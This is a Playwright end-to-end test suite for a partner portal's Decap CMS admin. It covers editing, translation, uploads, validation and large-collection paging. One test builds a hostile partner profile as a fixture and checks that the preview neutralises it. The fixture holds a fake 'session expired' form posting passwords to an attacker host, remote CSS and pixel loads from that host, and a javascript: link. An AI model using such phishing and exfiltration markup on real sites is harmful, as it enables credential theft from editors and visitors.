/**
 * The CMS as an editor uses it: the built /admin/ app against the local Git
 * backend on a throwaway copy of the project. Entries are created and edited
 * through the UI, moved through the editorial workflow and published; the
 * files are checked against the schemas and the copy is built to show them.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readData, schemaOf } from '../sample-content';
import { axeViolations, launchBrowser } from './browser';
import {
  choose,
  fillNewPartner,
  inDecapNameOrder,
  inEnglish,
  inRussian,
  openAdminAt,
  pickView,
  saveAndPublish,
} from './cms-ui';
import { copyOfProject, developerEnv } from '../project-copy';
import { startCmsServer, type CmsServer } from './cms-server';
import { ATTACKER_HOST, MARKER, partner } from '../hostile/corpus';
import { LISTING_PAGE_SIZE } from '../../admin/paged-listing';
import { generatePartners, readTaxonomies, toMarkdown } from '../../scripts/generate-partners';

/** How many cards Decap's list draws at a time (`CARDS_AT_A_TIME` in patches/decap-cms-core+*.patch). */
const CARDS_AT_A_TIME = 100;

let browser: Browser;
let repo: string;
let server: CmsServer;

const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, encoding: 'utf8' }).trim();
const draftBranches = () => git('branch', '--list', 'cms/*').split('\n').filter(Boolean);

beforeAll(async () => {
  browser = await launchBrowser();
  repo = copyOfProject();
  server = await startCmsServer('dist', repo);
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (repo) rmSync(repo, { recursive: true, force: true });
});

const openAdmin = (hash = '') => openAdminAt(browser, server.url, hash);

describe('the admin app', () => {
  it('loads, lists every collection and logs no errors', async () => {
    const { page, errors } = await openAdmin();
    for (const label of ['Site settings', 'Tiers', 'Partners', 'Resources', 'FAQ', 'Regions']) {
      await expect(page.getByRole('link', { name: label, exact: true }).first().isVisible()).resolves.toBe(true);
    }
    await page.getByRole('link', { name: 'Partners', exact: true }).first().click();
    await page.getByText('Agidel Systems').first().waitFor();
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('filters a collection from the list it loaded, and lays out only the cards in view', async () => {
    const { page, errors } = await openAdmin();
    const listings: string[] = [];
    page.on('request', (request) => {
      const action = request.url().endsWith('/api/v1') ? (request.postDataJSON() as { action?: string }).action : '';
      if (action === 'entriesByFolder' || action === 'entryPathsByFolder') listings.push(action);
    });
    await page.getByRole('link', { name: 'Partners', exact: true }).first().click();
    const cards = page.locator('a[href*="/collections/partners/entries/"]');
    await cards.first().waitFor();
    const all = await cards.count();
    // Decap's card class names carry their component's name; a rename upstream fails here.
    await expect(
      page
        .locator('li', { has: cards.first() })
        .first()
        .evaluate((card) => getComputedStyle(card).contentVisibility),
    ).resolves.toBe('auto');
    await expect(page.evaluate(() => document.querySelector('base')?.getAttribute('href'))).resolves.toBe('/admin/');
    await page.getByText('Filter by', { exact: true }).click();
    await page.getByRole('menuitem', { name: 'Gold tier' }).click();
    await expect.poll(() => cards.count()).toBeLessThan(all);
    expect(await cards.count()).toBeGreaterThan(0);
    // Listed once, on opening.
    expect(listings).toEqual(['entryPathsByFolder']);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('has no axe violation in the portal’s own markup of the page', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    // Decap's interface is its own; what the portal writes is the document around it.
    await page.route('**/_astro/*.js', (route) => route.abort());
    await page.goto(`${server.url}/admin/`);
    expect(await axeViolations(page)).toEqual([]);
    await expect(page.title()).resolves.toBe('Content manager · Polynya Partner Network');
    await context.close();
  });

  it('is hidden from search engines', () => {
    const html = readFileSync('dist/admin/index.html', 'utf8');
    expect(html).toContain('<meta name="robots" content="noindex, nofollow">');
    expect(readFileSync('dist/robots.txt', 'utf8')).toContain('Disallow: /admin/');
  });
});

describe('editing through the workflow', () => {
  it('adds a partner filled in by field labels, and publishes it', async () => {
    const { page, errors } = await openAdmin('/collections/partners/new');
    await fillNewPartner(page, {
      name: 'Tundra Byte Integrators',
      tier: 'Silver',
      type: 'Implementation & integration partner',
      summary: 'Moves Siberian manufacturers from on-premise mail in one weekend.',
      verified: '2026-11-02',
    });
    await page.getByLabel('Address (optional)').fill('Krasny Ave 82, office 12');
    await page.getByLabel('Smallest project (optional)').fill('150000');
    // Typed into and cleared again: saved as not set, not as an empty address the build would refuse.
    await page.getByLabel('Website (optional)').fill('https://tundra-byte.example/');
    await page.getByLabel('Website (optional)').fill('');
    await saveAndPublish(page);
    expect(errors).toEqual([]);
    await page.context().close();

    const file = join(repo, 'content/partners/tundra-byte-integrators.md');
    expect(existsSync(file)).toBe(true);
    expect(readFileSync(file, 'utf8')).not.toMatch(/^website:/m);
    const parsed = schemaOf('partners').safeParse(readData(file));
    expect(parsed.success, JSON.stringify(parsed.error?.issues)).toBe(true);
    expect(parsed.data).toMatchObject({
      offices: [{ city: { id: 'novosibirsk' }, address: 'Krasny Ave 82, office 12' }],
      clientSizes: ['11-50'],
      minProject: 150_000,
      acceptingClients: true,
    });
    expect(draftBranches()).toEqual([]);
    expect(git('log', '-1', '--format=%s')).not.toBe('Portal content');
  });

  it('names the file of a partner with a Cyrillic name in Latin letters', async () => {
    const { page, errors } = await openAdmin('/collections/partners/new');
    await fillNewPartner(page, {
      name: '«Тайга Кодекс»',
      tier: 'Silver',
      type: 'Implementation & integration partner',
      summary: 'Переводим почту заводов Сибири на облако за одни выходные.',
      verified: '2026-11-02',
    });
    await saveAndPublish(page);
    expect(errors).toEqual([]);
    await page.context().close();
    const file = join(repo, 'content/partners/tayga-kodeks.md');
    expect(existsSync(file)).toBe(true);
    expect(readFileSync(file, 'utf8')).toMatch(/^name: «Тайга Кодекс»$/m);
  });

  it('publishes a verified review through the workflow, previewed as the profile shows it', async () => {
    const { page, errors } = await openAdmin('/collections/reviews/new');
    await page.getByLabel('Partner', { exact: true }).fill('Agidel');
    await page.getByRole('option', { name: 'Agidel Systems', exact: true }).click();
    await page.getByLabel('Rating (stars)', { exact: true }).fill('5');
    await page.getByLabel('Title', { exact: true }).fill('Our mail moved over one quiet weekend');
    await page
      .getByLabel('Text', { exact: true })
      .fill('Agidel moved 60 mailboxes from our old server on a Saturday.\n\nOn Monday nobody noticed anything.');
    await page.getByLabel('Reviewer', { exact: true }).fill('Gulnara Safina');
    await page.getByLabel('Reviewer’s role', { exact: true }).fill('Office manager');
    await page.getByLabel('Client company', { exact: true }).fill('Belaya Rechka Dairy');
    await choose(page, 'Client size (users)', '11–50 users');
    await choose(page, 'Services', 'Implementation and setup');
    await page.getByLabel('Project ended', { exact: true }).fill('2026-09-20');
    await page.getByLabel('Published', { exact: true }).fill('2026-10-05');
    // Decap's toggle is a switch its label does not name: the review form has one, "Verified client".
    await page.getByRole('switch').click();
    await expect(page.getByRole('switch').getAttribute('aria-checked')).resolves.toBe('true');
    const preview = page.locator('iframe').first().contentFrame();
    await preview.getByRole('heading', { name: 'Our mail moved over one quiet weekend' }).waitFor();
    await preview.getByText('Verified client').waitFor();
    await saveAndPublish(page);
    expect(errors).toEqual([]);
    await page.context().close();
    const file = join(repo, 'content/reviews/agidel-systems-our-mail-moved-over-one-quiet-weekend.yaml');
    const parsed = schemaOf('reviews').safeParse(readData(file));
    expect(parsed.success, JSON.stringify(parsed.error?.issues)).toBe(true);
    expect(parsed.data).toMatchObject({ rating: 5, verified: true, partner: { id: 'agidel-systems' } });
  });

  it('changes a tier’s referral commission, and publishes it as a one-line change', async () => {
    const before = git('rev-parse', 'HEAD');
    const { page, errors } = await openAdmin('/collections/tiers/entries/gold');
    const field = inEnglish(page, 'Referral commission (%)');
    await field.fill('23.5');
    await saveAndPublish(page);
    expect(errors).toEqual([]);
    await page.context().close();
    const tier = readData(join(repo, 'content/tiers/en/gold.md')) as { referralCommission: number };
    expect(tier.referralCommission).toBe(23.5);
    // Only the edited line changes: the CMS writes the file the way it was written.
    expect(git('diff', '--numstat', before, 'HEAD')).toBe('1\t1\tcontent/tiers/en/gold.md');
  });

  it('translates a tier side by side: the Russian text changes, the rate has one value', async () => {
    const before = git('rev-parse', 'HEAD');
    const english = readFileSync(join(repo, 'content/tiers/en/silver.md'), 'utf8');
    const { page, errors } = await openAdmin('/collections/tiers/entries/silver');
    // The Russian pane shows the words only: the rate is edited in one place, for every language.
    await inRussian(page, 'Summary').waitFor();
    await expect(inRussian(page, 'Referral commission (%)').isVisible()).resolves.toBe(false);
    await inRussian(page, 'Summary').fill(
      'Для партнёров, которые уже ведут несколько клиентов и растут каждый квартал.',
    );
    // The preview is drawn in the language being written, with the rate all languages share.
    await page.getByTitle('Toggle preview').click();
    await page.getByText('Writing in EN').click();
    await page.getByRole('menuitem', { name: 'ru', exact: true }).click();
    const preview = page.locator('iframe').first().contentFrame();
    await preview.getByRole('heading', { name: 'Требования' }).waitFor();
    await preview.getByText('Для партнёров, которые уже ведут несколько клиентов').first().waitFor();
    const commission = preview.locator('dt', { hasText: 'Вознаграждение за привлечение' }).locator('xpath=../dd');
    await expect(commission.innerText()).resolves.toMatch(/^15\s?%$/);
    await expect(preview.getByRole('heading', { name: 'Requirements' }).count()).resolves.toBe(0);
    await saveAndPublish(page);
    expect(errors).toEqual([]);
    await page.context().close();
    const russian = readFileSync(join(repo, 'content/tiers/ru/silver.md'), 'utf8');
    expect(russian).toMatch(/^summary: Для партнёров, которые уже ведут несколько клиентов и растут/m);
    expect(russian).not.toMatch(/referralCommission|resaleDiscount|badgeColour/);
    expect(readFileSync(join(repo, 'content/tiers/en/silver.md'), 'utf8')).toBe(english);
    // The commit holds the Russian file alone, and in it the summary alone.
    expect(git('diff', '--name-only', before, 'HEAD')).toBe('content/tiers/ru/silver.md');
    const changed = git('diff', '--unified=0', before, 'HEAD')
      .split('\n')
      .filter((line) => /^[-+](?![-+])/.test(line));
    expect(
      changed.every((line) => /^[-+](summary:| {2})/.test(line)),
      changed.join('\n'),
    ).toBe(true);
  });
});

describe('previewing what a partner wrote', () => {
  it('shows a hostile body the way the site does: raw HTML as text, no form, nothing from elsewhere', async () => {
    const body = [
      '## Session expired',
      `<form action="https://${ATTACKER_HOST}/steal"><input name="password" placeholder="Password"><button>Sign in again</button></form>`,
      `<style>@import url(https://${ATTACKER_HOST}/x.css); body { background: url(https://${ATTACKER_HOST}/bg.png) }</style>`,
      `<img src="https://${ATTACKER_HOST}/raw-pixel.png">`,
      `![pixel](https://${ATTACKER_HOST}/pixel.png)`,
      `[phish](javascript:alert('${MARKER}'))`,
    ].join('\n\n');
    writeFileSync(join(repo, 'content/partners/hostile-preview.md'), partner('Hostile Preview', { body }));
    git('add', '--all');
    git('commit', '--quiet', '--message', 'A partner profile to preview');

    const { page, errors } = await openAdmin();
    // Requests to other hosts that were not stopped by the page's policy.
    const elsewhere: string[] = [];
    page.context().on('requestfinished', (request) => {
      if (!request.url().startsWith(server.url) && !request.url().startsWith('data:')) elsewhere.push(request.url());
    });
    page.context().on('requestfailed', (request) => {
      const blocked = request.failure()?.errorText === 'csp';
      if (!request.url().startsWith(server.url) && !blocked) elsewhere.push(request.url());
    });
    await page.goto(`${server.url}/admin/#/collections/partners/entries/hostile-preview`);
    const preview = page.locator('iframe').first().contentFrame();
    await preview.getByRole('heading', { name: 'Session expired' }).waitFor();
    await page.waitForLoadState('networkidle');
    const prose = preview.locator('.prose').filter({ hasText: 'Session expired' });
    await expect(prose.locator('form, input, button, style, link, img').count()).resolves.toBe(0);
    await expect(prose.getByText('<form action=').count()).resolves.toBeGreaterThan(0);
    await expect(prose.locator('a[href^="javascript:"]').count()).resolves.toBe(0);
    await expect(preview.locator('form').count()).resolves.toBe(0);
    expect(elsewhere).toEqual([]);
    // The editor pane shows the body's image too; the page's policy refuses to load it, and says so.
    const refused = errors.filter((error) => /Content Security Policy/.test(error));
    expect(refused.every((error) => error.includes(ATTACKER_HOST))).toBe(true);
    expect(errors.filter((error) => !refused.includes(error))).toEqual([]);
    await page.context().close();
  });
});

/** A 1×1 PNG, enough for the media library and the build. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

/** Waits until the page shows a picture that loaded: a draft upload from Decap's memory, or the file of that name. */
const showsPicture = (page: Page, fileName: string) =>
  page.waitForFunction(
    (name) =>
      [...document.images].some(
        (image) => (image.src.startsWith('blob:') || image.src.endsWith(`/${name}`)) && image.naturalWidth > 0,
      ),
    fileName,
    { timeout: 20_000 },
  );

/** The messages Decap sets beside the fields (the notice at the top repeats them). */
const fieldErrors = (page: Page) => page.locator('ul[class*="ControlErrorsList"]');

describe('what an editor does every day', () => {
  it('uploads a logo to a new partner, sees it before publishing, and publishes it', async () => {
    const { page, errors } = await openAdmin('/collections/partners/new');
    await fillNewPartner(page, {
      name: 'Permafrost Mail Partners',
      tier: 'Registered',
      type: 'Referral partner',
      summary: 'Yakutsk mail migrations for mines and river ports.',
      verified: '2026-10-20',
    });
    await page.getByRole('button', { name: 'Choose an image' }).click();
    await page
      .locator('input[type="file"]')
      .setInputFiles({ name: 'permafrost-logo.png', mimeType: 'image/png', buffer: PNG });
    await page.getByText('permafrost-logo.png').waitFor();
    await page.getByRole('button', { name: 'Choose selected' }).click();
    await showsPicture(page, 'permafrost-logo.png');
    await saveAndPublish(page);
    // Decap first asks for a draft upload at its public address (not there until published), then shows it from
    // memory, as checked above: those 404s are expected.
    expect(errors.filter((error) => !/404 .*\/uploads\/permafrost-logo\.png$/.test(error))).toEqual([]);
    await page.context().close();
    expect(readFileSync(join(repo, 'content/partners/permafrost-mail-partners.md'), 'utf8')).toMatch(
      /^logo: \/uploads\/permafrost-logo\.png$/m,
    );
    expect(readFileSync(join(repo, 'public/uploads/permafrost-logo.png'))).toEqual(PNG);
  });

  it('renames a resource that has downloads, and the commit changes the title alone', async () => {
    const before = git('rev-parse', 'HEAD');
    const { page, errors } = await openAdmin('/collections/resources/entries/mailbox-migration-guide');
    await inEnglish(page, 'Title').fill('Mailbox migration guide for on-premise and IMAP servers');
    await saveAndPublish(page);
    expect(errors).toEqual([]);
    await page.context().close();
    expect(git('diff', '--numstat', before, 'HEAD')).toBe('1\t1\tcontent/resources/en/mailbox-migration-guide.md');
  });

  it('writes Markdown with an uploaded picture into a page body', async () => {
    const { page, errors } = await openAdmin();
    await page.getByRole('button', { name: 'Media' }).click();
    await page
      .locator('input[type="file"]')
      .setInputFiles({ name: 'partner-team.png', mimeType: 'image/png', buffer: PNG });
    await page.getByText('partner-team.png').waitFor();
    await page.keyboard.press('Escape');
    await page.goto(`${server.url}/admin/#/collections/pages/entries/about`);
    // The other language's pane stands where the preview does; the editor switches to the preview.
    await page.getByTitle('Toggle preview').click();
    // The Markdown editor is a text box of its own, not tied to its label; the English one comes first.
    const body = page.locator('.cms-editor-raw [contenteditable="true"]').first();
    await body.click();
    await page.keyboard.press('Control+End');
    await page.keyboard.type('\n\n## Where we work\n\n![The partner team in Irkutsk](/uploads/partner-team.png)\n');
    const picture = page.locator('iframe').first().contentFrame().getByAltText('The partner team in Irkutsk');
    await expect
      .poll(() => picture.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 0), {
        timeout: 10_000,
      })
      .toBe(true);
    await saveAndPublish(page);
    expect(errors).toEqual([]);
    await page.context().close();
    const about = readFileSync(join(repo, 'content/pages/en/about.md'), 'utf8');
    expect(about).toContain('## Where we work');
    expect(about).toContain('![The partner team in Irkutsk](/uploads/partner-team.png)');
  });

  it('saves the entry in the address bar after going from one entry to another', async () => {
    const { page, errors } = await openAdmin('/collections/tiers/entries/silver');
    await inEnglish(page, 'Support response time').waitFor();
    await page.goto(`${server.url}/admin/#/collections/tiers/entries/platinum`);
    await expect.poll(() => inEnglish(page, 'Name').inputValue(), { timeout: 15_000 }).toBe('Platinum');
    await inEnglish(page, 'Support response time').fill('30 minutes, around the clock');
    // The same hours in the Russian text, or the build refuses the translation.
    await inRussian(page, 'Support response time').fill('30 минут, круглосуточно');
    await saveAndPublish(page);
    expect(errors).toEqual([]);
    await page.context().close();
    expect(readFileSync(join(repo, 'content/tiers/en/platinum.md'), 'utf8')).toMatch(
      /^supportSla: 30 minutes, around the clock$/m,
    );
    expect(readFileSync(join(repo, 'content/tiers/en/silver.md'), 'utf8')).not.toContain(
      '30 minutes, around the clock',
    );
    expect(readFileSync(join(repo, 'content/tiers/ru/platinum.md'), 'utf8')).toMatch(
      /^supportSla: 30 минут, круглосуточно$/m,
    );
  });
});

describe('fields that help the editor', () => {
  it('counts the characters of a limited field and says how many are too many', async () => {
    const { page, errors } = await openAdmin('/collections/partners/new');
    const summary = page.getByLabel('Summary', { exact: true });
    const count = page.locator(`#${await summary.getAttribute('id')}-count`);
    await expect(count.innerText()).resolves.toBe('0 / 200');
    await summary.fill('Переносим почту сибирских заводов за выходные.');
    await expect(count.innerText()).resolves.toBe('46 / 200');
    await summary.fill('x'.repeat(203));
    await expect(count.innerText()).resolves.toBe('203 / 200: 3 too many');
    await expect(count.evaluate((element) => getComputedStyle(element).color)).resolves.toBe('rgb(179, 38, 30)');
    // Every limited field has its count: the name, the summary, the city and more.
    await expect(page.locator('[id$="-count"]').count()).resolves.toBeGreaterThan(1);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('lists references by label and picks what was typed at once, with Enter', async () => {
    const { page, errors } = await openAdmin('/collections/partners/new');
    await page.getByLabel('Tier', { exact: true }).click();
    const tiers = await page.getByRole('option').allInnerTexts();
    expect(tiers).toEqual([...tiers].sort((a, b) => a.localeCompare(b, 'en')));
    expect(tiers).toEqual(expect.arrayContaining(['Gold', 'Silver']));
    await page.keyboard.press('Escape');
    const regions = page.getByLabel('Regions', { exact: true });
    const field = page.locator('[class*="ControlContainer"]', { has: regions });
    const chosen = () => field.locator('[class*="multiValue"] > div:first-child').allInnerTexts();
    await regions.click();
    // What matches nothing picks nothing: Enter never takes an entry that was not typed.
    await regions.pressSequentially('Sibir', { delay: 0 });
    await page.keyboard.press('Enter');
    await expect(chosen()).resolves.toEqual([]);
    await regions.fill('');
    // No wait between typing and Enter: the match is already there.
    await regions.pressSequentially('Siber', { delay: 0 });
    await page.keyboard.press('Enter');
    await expect(chosen()).resolves.toEqual(['Siberia']);
    expect(errors).toEqual([]);
    await page.context().close();
  });
});

describe('refusing what the build would reject', () => {
  it('says at the top why an entry was not saved, naming every problem', async () => {
    const { page, errors } = await openAdmin('/collections/partners/new');
    await page.getByLabel('Name', { exact: true }).fill('Broken <b>Partner</b>');
    await page.getByLabel('Website (optional)').fill('htp:/broken');
    const notice = page.getByRole('alert', { name: 'Why this entry was not saved' });
    // Decap checks fields while the editor types; nothing was refused yet, so the notice waits.
    await expect(fieldErrors(page).first().isVisible()).resolves.toBe(true);
    await expect(notice.isVisible()).resolves.toBe(false);
    await page.getByRole('button', { name: 'Save' }).click();
    await notice.waitFor();
    const text = await notice.innerText();
    expect(text).toMatch(/Not saved: \d+ problems to fix/);
    // Listed in the order the fields stand in the form: the name before the website.
    expect(text.indexOf('Use plain text')).toBeLessThan(text.indexOf('Must be an http://'));
    expect(text).toContain('Use plain text: no < or >');
    expect(text).toContain('Must be an http:// or https:// address');
    expect(text).toContain('Tier is required');
    // The field messages read as sentences, not in capitals.
    const message = fieldErrors(page).getByText(/Use plain text: no < or >/);
    await expect(message.evaluate((element) => getComputedStyle(element).textTransform)).resolves.toBe('none');
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('shows the messages next to the fields and writes nothing', async () => {
    const before = git('rev-parse', 'HEAD');
    const { page } = await openAdmin('/collections/partners/new');
    await page.getByLabel('Name', { exact: true }).fill('Broken <b>Partner</b>');
    await page.getByLabel('Website (optional)').fill('htp:/broken');
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(
      fieldErrors(page)
        .getByText(/Use plain text: no < or >/)
        .isVisible(),
    ).resolves.toBe(true);
    await expect(
      fieldErrors(page)
        .getByText(/Must be an http:\/\/ or https:\/\/ address/)
        .isVisible(),
    ).resolves.toBe(true);
    await expect(
      fieldErrors(page)
        .getByText(/Tier is required/)
        .isVisible(),
    ).resolves.toBe(true);
    await page.context().close();

    const tier = await openAdmin('/collections/tiers/entries/silver');
    await inEnglish(tier.page, 'Resale discount (%)').fill('140');
    await tier.page.getByRole('button', { name: 'Save' }).click();
    await expect(
      fieldErrors(tier.page)
        .getByText(/must be between 0 and 100|less than or equal to 100/i)
        .isVisible(),
    ).resolves.toBe(true);
    await tier.page.context().close();

    expect(git('rev-parse', 'HEAD')).toBe(before);
    expect(draftBranches()).toEqual([]);
    expect(git('status', '--porcelain')).toBe('');
  });
});

describe('the site after the edits', () => {
  it('builds with the new partners, the logo, the page text and the new rate', () => {
    const build = spawnSync('npx', ['astro', 'build'], {
      cwd: repo,
      encoding: 'utf8',
      env: developerEnv(),
    });
    expect(build.status, build.stderr + build.stdout).toBe(0);
    const profile = readFileSync(join(repo, 'dist/partners/tundra-byte-integrators/index.html'), 'utf8');
    expect(profile).toContain('Tundra Byte Integrators');
    expect(readFileSync(join(repo, 'dist/partners/directory.json'), 'utf8')).toContain('Tundra Byte Integrators');
    expect(readFileSync(join(repo, 'dist/ru/partners/tayga-kodeks/index.html'), 'utf8')).toContain('«Тайга Кодекс»');
    // The published review shows on the profile and gives the partner its first rating.
    const agidel = readFileSync(join(repo, 'dist/partners/agidel-systems/index.html'), 'utf8');
    expect(agidel).toContain('Our mail moved over one quiet weekend');
    expect(agidel).toContain('Rated 5.0 out of 5 from 1 verified review');
    expect(agidel).toContain('"reviewCount":1');
    const logo = readFileSync(join(repo, 'dist/partners/permafrost-mail-partners/index.html'), 'utf8');
    expect(logo).toContain('src="/uploads/permafrost-logo.png"');
    const about = readFileSync(join(repo, 'dist/about/index.html'), 'utf8');
    expect(about).toMatch(/<h2[^>]*>Where we work<\/h2>/);
    expect(about).toContain('<img src="/uploads/partner-team.png" alt="The partner team in Irkutsk"');
    // The translation shows on the Russian page only, next to the one rate both languages share.
    const silverRu = readFileSync(join(repo, 'dist/ru/tiers/silver/index.html'), 'utf8');
    expect(silverRu).toContain('Для партнёров, которые уже ведут несколько клиентов');
    expect(readFileSync(join(repo, 'dist/tiers/silver/index.html'), 'utf8')).not.toContain('Для партнёров');
    const goldRu = readFileSync(join(repo, 'dist/ru/tiers/gold/index.html'), 'utf8');
    expect(goldRu).toMatch(/23,5\s?%/);
    const gold = readFileSync(join(repo, 'dist/tiers/gold/index.html'), 'utf8');
    expect(gold).toMatch(/23\.5%/);
    // The calculator island on the tier page is handed the new rate.
    expect(gold).toContain('&quot;referralCommission&quot;:[0,23.5]');
  }, 180_000);
});

describe('a collection of hundreds of entries', () => {
  it('opens on its first page, brings the next ones as the editor scrolls, and filters and sorts every entry a hundred cards at a time', async () => {
    const big = copyOfProject();
    const generated = generatePartners(240, 7, readTaxonomies(join(big, 'content')));
    for (const partner of generated)
      writeFileSync(join(big, 'content/partners', `${partner.slug}.md`), toMarkdown(partner));
    git('-C', big, 'add', '--all');
    git('-C', big, 'commit', '--quiet', '--message', 'Generated partners');
    const bigServer = await startCmsServer('dist', big);
    try {
      const total = readdirSync(join(big, 'content/partners')).filter((file) => file.endsWith('.md')).length;
      const gold = readdirSync(join(big, 'content/partners')).filter((file) =>
        /^tier: gold$/m.test(readFileSync(join(big, 'content/partners', file), 'utf8')),
      ).length;
      const { page, errors } = await openAdminAt(browser, bigServer.url);
      await page.getByRole('link', { name: 'Partners', exact: true }).first().click();
      const cards = page.locator('a[href*="/collections/partners/entries/"]');
      await cards.first().waitFor();
      expect(await cards.count()).toBe(LISTING_PAGE_SIZE);
      // Decap asks for the next page when the end of the list comes into view.
      for (let shown = LISTING_PAGE_SIZE; shown < total; shown += LISTING_PAGE_SIZE) {
        await cards.last().scrollIntoViewIfNeeded();
        await expect.poll(() => cards.count()).toBe(Math.min(total, shown + LISTING_PAGE_SIZE));
      }
      const paths = await cards.evaluateAll((links) => links.map((link) => link.getAttribute('href')));
      expect(new Set(paths).size).toBe(total);
      // A filter covers every entry, not only the pages seen.
      await page.reload();
      await cards.first().waitFor();
      await page.getByText('Filter by', { exact: true }).click();
      await page.getByRole('menuitem', { name: 'Gold tier' }).click();
      await expect.poll(() => cards.count()).toBe(gold);
      expect(gold).toBeGreaterThan(LISTING_PAGE_SIZE / 4);
      // A sort covers every entry too; its cards are drawn a hundred at a time (the Decap patch), the next
      // ones as the end of those comes into view.
      const files = readdirSync(join(big, 'content/partners')).filter((file) => file.endsWith('.md'));
      const byName = inDecapNameOrder(
        files.map((file) => ({
          slug: file.slice(0, -3),
          name: String((readData(join(big, 'content/partners', file)) as { name: unknown }).name),
        })),
      );
      const drawn = () =>
        cards.evaluateAll((links) => links.map((link) => link.getAttribute('href')?.split('/').pop()));
      await page.reload();
      await cards.first().waitFor();
      await pickView(page, 'Sort by', 'Name');
      await expect.poll(drawn).toEqual(byName.slice(0, CARDS_AT_A_TIME));
      await cards.last().scrollIntoViewIfNeeded();
      await expect.poll(drawn).toEqual(byName.slice(0, 2 * CARDS_AT_A_TIME));
      await cards.last().scrollIntoViewIfNeeded();
      await expect.poll(drawn).toEqual(byName);
      expect(errors).toEqual([]);
      await page.context().close();
    } finally {
      await bigServer.close();
      rmSync(big, { recursive: true, force: true });
    }
  }, 180_000);
});
